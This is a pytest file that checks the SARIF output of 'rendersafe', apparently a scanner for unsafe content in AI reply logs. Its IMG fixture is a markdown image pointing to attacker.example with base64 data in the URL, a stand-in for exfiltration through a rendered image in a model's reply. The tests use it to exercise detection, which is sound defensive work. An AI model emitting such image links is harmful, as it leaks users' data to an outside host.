"""`rendersafe scan --output-format sarif` as code-scanning dashboards read it: valid
against the SARIF 2.1.0 schema (the OASIS file, vendored in tests/data/sarif), artifact
URIs relative to `%SRCROOT%`, the tool's version, and fingerprints that follow a
finding across runs when lines move."""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import pytest

from rendersafe import __version__
from rendersafe.cli import run
from rendersafe.scan.sarif import FINGERPRINT, SRCROOT

jsonschema = pytest.importorskip("jsonschema")

ROOT = Path(__file__).parent.parent
TRANSCRIPTS = ROOT / "fixtures" / "transcripts"
BAD = Path(__file__).parent / "data" / "scan"
SCHEMA = json.loads(
    (Path(__file__).parent / "data" / "sarif" / "sarif-schema-2.1.0.json").read_text()
)
IMG = "![x](https://attacker.example/p.png?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=)"


def sarif_of(*args: str) -> tuple[int, dict[str, Any]]:
    out, err = io.StringIO(), io.StringIO()
    code = run(["scan", *args, "--output-format", "sarif", "--jobs", "1"], stdout=out, stderr=err)
    return code, json.loads(out.getvalue())


def validate(log: dict[str, Any]) -> None:
    jsonschema.Draft4Validator.check_schema(SCHEMA)
    errors = sorted(jsonschema.Draft4Validator(SCHEMA).iter_errors(log), key=str)
    assert not errors, "\n".join(f"{list(e.absolute_path)}: {e.message}" for e in errors[:5])


def uris(log: dict[str, Any]) -> list[dict[str, str]]:
    run_ = log["runs"][0]
    found = [
        loc["physicalLocation"]["artifactLocation"]
        for result in run_["results"]
        for loc in result["locations"]
    ]
    for note in run_["invocations"][0]["toolExecutionNotifications"]:
        found += [loc["physicalLocation"]["artifactLocation"] for loc in note["locations"]]
    return found


def test_the_log_validates_with_relative_uris_the_version_and_fingerprints(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(ROOT)
    code, log = sarif_of("fixtures/transcripts", str(BAD))  # one relative, one absolute
    assert code == 1
    validate(log)
    run_ = log["runs"][0]
    assert run_["originalUriBaseIds"] == {SRCROOT: {"uri": ROOT.as_uri() + "/"}}
    driver = run_["tool"]["driver"]
    assert (driver["name"], driver["version"], driver["semanticVersion"]) == (
        "rendersafe",
        __version__,
        __version__,
    )
    locations = uris(log)
    assert locations
    assert all(loc["uriBaseId"] == SRCROOT for loc in locations)
    assert all(not loc["uri"].startswith(("/", "file:")) for loc in locations)
    assert {loc["uri"].split("/")[0] for loc in locations} == {"fixtures", "tests"}
    prints = [result["partialFingerprints"][FINGERPRINT] for result in run_["results"]]
    assert len(prints) == len(set(prints)) == len(run_["results"]) > 10
    assert run_["invocations"][0]["executionSuccessful"] is False  # tests/data/scan: errors
    rules = [rule["id"] for rule in driver["rules"]]
    assert all(rules[r["ruleIndex"]] == r["ruleId"] for r in run_["results"])


def test_a_file_outside_the_root_is_an_absolute_file_uri(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "here").mkdir()
    (tmp_path / "away.md").write_text(IMG)
    monkeypatch.chdir(tmp_path / "here")
    code, log = sarif_of(str(tmp_path / "away.md"))
    assert code == 1
    validate(log)
    assert uris(log) == [{"uri": (tmp_path / "away.md").as_uri()}]


def test_fingerprints_survive_lines_moving_and_tell_equal_findings_apart(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    logs = tmp_path / "logs" / "a.jsonl"
    logs.parent.mkdir()
    records = [
        {"id": "r1", "reply": IMG},
        {"id": "r2", "reply": "fine"},
        {"id": "r3", "reply": IMG},
    ]
    logs.write_text("".join(json.dumps(r) + "\n" for r in records))
    _, before = sarif_of("logs")
    honest = json.dumps({"id": "r0", "reply": "An honest reply."}) + "\n"
    logs.write_text(honest + logs.read_text())  # every line moves down one
    _, after = sarif_of("logs")

    def prints(log: dict[str, Any]) -> list[tuple[str, int]]:
        return [
            (
                result["partialFingerprints"][FINGERPRINT],
                result["locations"][0]["physicalLocation"]["region"]["startLine"],
            )
            for result in log["runs"][0]["results"]
        ]

    old, new = prints(before), prints(after)
    assert [line for _, line in old] == [1, 3]
    assert [line for _, line in new] == [2, 4]
    assert [fp for fp, _ in old] == [fp for fp, _ in new]  # the lines moved, the prints did not
    assert old[0][0] != old[1][0]  # two equal findings: the first and the second
    validate(after)
